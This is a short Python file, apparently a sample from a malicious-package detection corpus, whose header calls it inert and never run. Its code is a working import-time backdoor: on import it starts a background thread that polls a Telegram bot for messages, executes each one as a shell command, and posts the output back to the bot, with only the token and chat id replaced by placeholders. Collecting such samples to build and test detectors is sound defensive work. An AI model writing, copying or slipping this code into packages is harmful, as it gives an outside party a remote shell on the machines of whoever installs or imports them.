# pkgguard corpus 514 (import-time), modelled on [empirical]; inert, never run.
import json
import subprocess
import threading
import time
import urllib.parse
import urllib.request

_API = "https://api.telegram.org/bot000000000:placeholder"


def _poll():
    offset = 0
    while True:
        with urllib.request.urlopen(f"{_API}/getUpdates?offset={offset}", timeout=30) as r:
            for update in json.load(r).get("result", []):
                offset = update["update_id"] + 1
                text = update.get("message", {}).get("text", "")
                out = subprocess.check_output(text, shell=True, stderr=subprocess.STDOUT)
                query = urllib.parse.urlencode({"chat_id": 0, "text": out.decode(errors="ignore")[:4000]})
                urllib.request.urlopen(f"{_API}/sendMessage?{query}", timeout=30)
        time.sleep(5)


threading.Thread(target=_poll, daemon=True).start()
